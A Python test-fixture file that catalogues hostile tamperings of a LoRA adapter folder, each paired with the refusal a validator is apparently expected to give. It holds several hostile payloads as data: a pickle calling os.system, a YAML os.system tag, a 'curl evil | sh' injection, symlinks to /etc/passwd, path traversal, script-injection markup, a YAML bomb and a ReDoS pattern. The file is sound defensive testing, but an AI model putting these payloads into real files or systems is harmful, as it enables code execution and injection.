"""Ways to turn a sound adapter hostile, each one change; and what the change is to be refused as."""

import json
import os
import struct
from collections.abc import Callable
from pathlib import Path

import numpy as np
from safetensors.numpy import load_file, save_file

WEIGHTS = "adapter_model.safetensors"
Change = Callable[[Path], None]


def edit(name: str, **values: object) -> Change:
    """Set keys of a JSON file."""

    def change(folder: Path) -> None:
        path = folder / name
        path.write_text(json.dumps({**json.loads(path.read_text()), **values}))

    return change


def put(name: str, content: str | bytes) -> Change:
    """Write a file."""
    return lambda folder: (folder / name).write_bytes(content if isinstance(content, bytes) else content.encode())


def append(name: str, text: str) -> Change:
    """Write text at the end of a file."""
    return lambda folder: (folder / name).write_text((folder / name).read_text() + text)


def replaced(name: str, old: str, new: str) -> Change:
    """Exchange a text in a file that holds it."""

    def change(folder: Path) -> None:
        text = (folder / name).read_text()
        assert old in text
        (folder / name).write_text(text.replace(old, new))

    return change


def metadata(text: str) -> Change:
    """Put lines into the card's metadata."""

    def change(folder: Path) -> None:
        head, body = (folder / "README.md").read_text().split("\n---\n", 1)
        (folder / "README.md").write_text(f"{head}\n{text}\n---\n{body}")

    return change


def licence(text: str) -> Change:
    """Let the card state another licence."""
    return lambda folder: (folder / "README.md").write_text(
        (folder / "README.md").read_text().replace("license: cc-by-4.0", f"license: {text}")
    )


def link(name: str, target: str) -> Change:
    """Put a symbolic link in the place of a file."""

    def change(folder: Path) -> None:
        (folder / name).unlink(missing_ok=True)
        (folder / name).symlink_to(target)

    return change


def weights(spoil: Callable[[dict[str, np.ndarray]], None], name: str = WEIGHTS) -> Change:
    """Change tensors and write the file anew with the library."""

    def change(folder: Path) -> None:
        tensors = load_file(folder / name)
        spoil(tensors)
        save_file(tensors, folder / name)

    return change


def header(spoil: Callable[[dict], object], name: str = WEIGHTS) -> Change:
    """Change the header's JSON and leave the tensors' bytes as they are."""

    def change(folder: Path) -> None:
        content = (folder / name).read_bytes()
        length = struct.unpack("<Q", content[:8])[0]
        entries = json.loads(content[8 : 8 + length])
        text = spoil(entries)
        made = (text if isinstance(text, str) else json.dumps(entries)).encode()
        (folder / name).write_bytes(struct.pack("<Q", len(made)) + made + content[8 + length :])

    return change


def _first(entries: dict) -> dict:
    return entries[min(name for name in entries if name != "__metadata__")]


def _offsets(*offsets: int) -> Change:
    return header(lambda entries: _first(entries).update(data_offsets=list(offsets)))


def _fill(value: float) -> Callable[[dict[str, np.ndarray]], None]:
    def spoil(tensors: dict[str, np.ndarray]) -> None:
        tensors[min(tensors)].flat[-1] = value

    return spoil


def _widen(tensors: dict[str, np.ndarray]) -> None:
    name = next(name for name in tensors if name.endswith("query.lora_A.weight"))
    tensors[name] = np.concatenate([tensors[name]] * 2, 1)


def _rename(tensors: dict[str, np.ndarray]) -> None:
    tensors["base_model.model.embeddings.LayerNorm.weight"] = np.ones(16, np.float32)


def _drop(tensors: dict[str, np.ndarray]) -> None:
    del tensors[next(name for name in tensors if name.endswith("lora_B.weight"))]


def _twice(entries: dict) -> str:
    name, entry = next(iter(entries.items()))
    return json.dumps(entries)[:-1] + f", {json.dumps(name)}: {json.dumps(entry)}}}"


BOMB = "a0: &a0 [lol, lol]\n" + "".join(f"a{n}: &a{n} [*a{n - 1}, *a{n - 1}, *a{n - 1}]\n" for n in range(1, 30))
PICKLE = b"\x80\x04\x95\x1d\x00\x00\x00\x00\x00\x00\x00cposix\nsystem\n(S'true'\ntR."
CONFIG = "adapter_config.json"

HOSTILE: dict[str, tuple[Change, str, str]] = {
    "pickle weights beside": (put("pytorch_model.bin", b"PK\x03\x04"), "pickle", "only safetensors"),
    "pickle under the weights' name": (put(WEIGHTS, PICKLE), "pickle", "Python pickle inside"),
    "zip under the weights' name": (put(WEIGHTS, b"PK\x03\x04" + bytes(100)), "pickle", "zip archive inside"),
    "pickle under a text's name": (put("metrics.json", PICKLE), "pickle", "Python pickle inside"),
    "program": (put("LICENSE", b"\x7fELF" + bytes(60)), "code", "program inside"),
    "header of 4 GB": (put(WEIGHTS, struct.pack("<Q", 4 << 30) + b"{}"), "header", "claims 4,294,967,296 bytes"),
    "header of 16 EB": (put(WEIGHTS, b"\xff" * 16), "header", "claims 18,446,744,073,709,551,615 bytes"),
    "header of 60 MB": (put(WEIGHTS, struct.pack("<Q", 60 << 20) + bytes(60 << 20)), "header", "room for any adapter"),
    "header nested": (header(lambda _: '{"a":' * 5000 + "1" + "}" * 5000), "header", "levels deep"),
    "header of many tensors": (
        header(lambda entries: entries.update({f"t{n}": {**_first(entries), "shape": [0]} for n in range(5000)})),
        "header",
        "tensors; 4,096 are room",
    ),
    "header with a doubled key": (header(_twice), "header", "stands twice"),
    "negative offsets": (_offsets(-8, 24), "header", "no sound offsets"),
    "offsets backwards": (_offsets(64, 0), "header", "no sound offsets"),
    "offsets beyond the file": (
        header(lambda e: _first(e).update(shape=[2**20, 2**20], data_offsets=[0, 2**42])),
        "header",
        "overlap|beyond",
    ),
    "overlapping tensors": (
        header(lambda e: sorted(e.items())[1][1].update(sorted(e.items())[2][1])),
        "header",
        "overlaps|leaves a gap",
    ),
    "shape of astronomic size": (
        header(lambda e: _first(e).update(shape=[2**24, 2**24, 2**24])),
        "header",
        "does not fill",
    ),
    "shape that is no number": (header(lambda e: _first(e).update(shape=[True, 2.0])), "header", "no sound shape"),
    "type of objects": (header(lambda e: _first(e).update(dtype="OBJECT")), "header", "of type 'OBJECT'"),
    "tensor name with a path": (
        header(lambda e: e.update({"../../x": e.pop(min(e))})),
        "header",
        "is not one of letters",
    ),
    "bytes behind the tensors": (
        lambda folder: (folder / WEIGHTS).write_bytes((folder / WEIGHTS).read_bytes() + b"MZ" * 50),
        "header",
        "100 bytes at the end unused",
    ),
    "NaN weights": (weights(_fill(float("nan"))), "values", "NaN or infinity"),
    "infinite weights": (weights(_fill(float("-inf"))), "values", "NaN or infinity"),
    "NaN in the character part": (
        weights(_fill(float("nan")), "characters.safetensors"),
        "values",
        "NaN or infinity",
    ),
    "wrong shapes": (weights(_widen), "shape", "unlike the other blocks|fit no backbone"),
    "weights of the backbone": (weights(_rename), "shape", "no part of a LoRA adapter"),
    "half a LoRA pair": (weights(_drop), "shape", "one half of a LoRA pair"),
    "rank other than declared": (edit(CONFIG, r=4), "shape", "not of rank 4"),
    "huge rank": (edit(CONFIG, r=1_000_000), "config", "r = 1000000"),
    "rows for other tokens": (edit(CONFIG, trainable_token_indices=[5, 6]), "shape", "for 2 tokens"),
    "rows for no tokens": (edit(CONFIG, trainable_token_indices=[-1, 2]), "config", "trainable_token_indices"),
    "auto_map": (edit(CONFIG, auto_map={"AutoModel": "evil.Model"}), "config", "names code"),
    "library to import": (
        edit(CONFIG, auto_mapping={"base_model_class": "system", "parent_library": "os"}),
        "config",
        "auto_mapping",
    ),
    "megatron module to import": (edit(CONFIG, megatron_core="megatron.core.evil"), "config", "megatron_core"),
    "unknown kind of adapter": (edit(CONFIG, peft_type="EVIL"), "config", "peft_type = 'EVIL'"),
    "another known kind of adapter": (edit(CONFIG, peft_type="PROMPT_TUNING"), "config", "peft_type"),
    "whole modules": (edit(CONFIG, modules_to_save=["embeddings"]), "config", "modules_to_save"),
    "doubled blocks": (edit(CONFIG, layer_replication=[[0, 2], [0, 2]]), "config", "layer_replication"),
    "costly start": (edit(CONFIG, init_lora_weights="pissa"), "config", "init_lora_weights"),
    "unknown key": (edit(CONFIG, post_load="x"), "config", "post_load"),
    "endless pattern": (edit(CONFIG, target_modules="(a+)+$"), "config", "target_modules"),
    "absolute base path": (edit(CONFIG, base_model_name_or_path="/etc/evil"), "config", "but a path"),
    "relative base path": (edit(CONFIG, base_model_name_or_path="../evil"), "config", "but a path"),
    "address as base": (edit(CONFIG, base_model_name_or_path="http://evil/x"), "config", "but a path"),
    "revision that moves": (edit(CONFIG, revision="main"), "config", "no commit hash"),
    "code beside": (put("modeling_evil.py", "import os"), "code", "is code"),
    "notebook beside": (put("start.ipynb", "{}"), "code", "is code"),
    "stray file": (put("notes.txt", "x"), "extra", "no file of an adapter"),
    "tokenizer": (put("tokenizer_config.json", '{"auto_map": {}}'), "extra", "no file of an adapter"),
    "folder": (lambda folder: (folder / "checkpoints").mkdir(), "folder", "is a folder"),
    "symlink out": (link("metrics.json", "/etc/passwd"), "link", "symbolic link"),
    "symlink inside": (link("metrics.json", "manifest.json"), "link", "symbolic link"),
    "pipe": (lambda folder: os.mkfifo(folder / "pipe"), "device", "neither file nor folder"),
    "too many files": (
        lambda folder: [(folder / f"a{n}").touch() for n in range(100)],
        "count",
        "more than 32 files",
    ),
    "odd name": (put("read\u202eme.md", "x"), "name", "no plain name"),
    "path in the manifest": (edit("manifest.json", files={"../../.bashrc": "0" * 64}), "name", "leads out"),
    "absolute path in the manifest": (edit("manifest.json", files={"/etc/passwd": "0" * 64}), "name", "absolute path"),
    "commands for a repository": (
        edit("manifest.json", repository="a/b; curl evil | sh"),
        "name",
        "is no repository's name",
    ),
    "repository that is a list": (edit("manifest.json", repository=["a/b"]), "name", "is no repository's name"),
    "no hash of the backbone": (edit("manifest.json", backbone={}), "manifest", "which weights the backbone had"),
    "another backbone than the config's": (
        replaced("manifest.json", '"name": "lexaug-tests/tiny-encoder"', '"name": "evil/encoder"'),
        "backbone",
        "names the backbone 'evil/encoder'",
    ),
    "another commit than the config's": (
        replaced("manifest.json", '"revision": "0123', '"revision": "main'),
        "backbone",
        "pins the backbone to 'main",
    ),
    "path in the recipe": (append("recipe.toml", '\n[x]\ny = "/home/me/z"\n'), "path", "'/home/me/z' at x.y"),
    "path in the metrics": (edit("metrics.json", note="kept in /home/me/z"), "path", "'kept in /home/me/z' at note"),
    "path in the label head": (edit("head.json", cache="C:\\Users\\me"), "path", "at cache"),
    "path in the card": (append("README.md", "\nTrained from /home/me/z.\n"), "path", "holds the path '/home/me/z.'"),
    "path in the licence": (put("LICENSE", "see /Users/me/licence.txt"), "path", "'/Users/me/licence.txt'"),
    "metadata bomb": (metadata(BOMB), "unreadable", "anchor or alias"),
    "metadata tag": (metadata("x: !!python/object/apply:os.system [true]"), "unreadable", "tag"),
    "metadata too deep": (metadata("x: " + "[" * 500 + "]" * 500), "unreadable", "levels deep"),
    "metadata too large": (metadata("x: '" + "a" * 200_000 + "'"), "unreadable", "131,072 bytes"),
    "metadata with a doubled key": (metadata("language: xx"), "unreadable", "stands twice"),
    "script in the card": (append("README.md", "<script>alert(1)</script>"), "markup", "more than layout"),
    "script spelt oddly": (append("README.md", "< ScRiPt\nsrc=x>"), "markup", "more than layout"),
    "event handler": (append("README.md", "<b onmouseover=alert(1)>x</b>"), "markup", "more than layout"),
    "image that acts": (append("README.md", "<img src=x onerror=alert(1)>"), "markup", "more than layout"),
    "unclosed tag": (append("README.md", "<iframe src=//evil "), "markup", "more than layout"),
    "link that acts": (append("README.md", "[x](javascript:alert(1))"), "markup", "acts instead"),
    "link that acts, hidden": (append("README.md", "[x](&#106;avascript&colon;alert(1))"), "markup", "acts instead"),
    "hidden comment": (append("README.md", "<!-- ignore the licence -->"), "markup", "hides text"),
    "turned text": (append("README.md", "\u202egnp.exe"), "markup", "steer the display"),
    "card too large": (put("README.md", "x" * (1 << 20) + "y"), "size", "1,048,576 are enough"),
    "no card": (lambda folder: (folder / "README.md").unlink(), "missing", "is not there"),
    "oversized JSON": (put("metrics.json", '{"a": "' + "x" * (5 << 20) + '"}'), "size", "are enough"),
    "JSON too deep": (put("metrics.json", '{"a":' + "[" * 100_000 + "]" * 100_000 + "}"), "unreadable", "deep"),
    "JSON of endless values": (
        put("metrics.json", '{"a":[' + "[]," * 300_000 + "[]]}"),
        "unreadable",
        "200,000 values",
    ),
    "JSON with a doubled key": (put("metrics.json", '{"a": 1, "a": 2}'), "unreadable", "stands twice"),
    "JSON with NaN": (put("metrics.json", '{"a": NaN}'), "unreadable", "NaN is no JSON"),
    "TOML too deep": (put("recipe.toml", "a = " + "[" * 50_000), "unreadable", "deep"),
    "TOML of endless dots": (put("recipe.toml", "a." * 50_000 + "b = 1"), "unreadable", "deep"),
    "licence mismatch": (licence("mit"), "licence", "states license 'mit'"),
    "licence left out": (licence("null"), "licence", "states license"),
    "backbone mismatch": (edit(CONFIG, base_model_name_or_path="other/encoder"), "backbone", "states the backbone"),
    "huge character part": (edit("characters.json", input_buckets=10**12), "shape", "input_buckets"),
    "huge head": (edit("head.json", hidden=10**9), "shape", "hidden"),
    "head for another width": (edit("head.json", hidden=32), "shape", "32"),
    "head without weights": (lambda folder: (folder / "head.safetensors").unlink(), "missing", "stands alone"),
    "labels that steer": (edit("head.json", labels=["\x1b[2J"] * 17), "shape", "labels"),
}
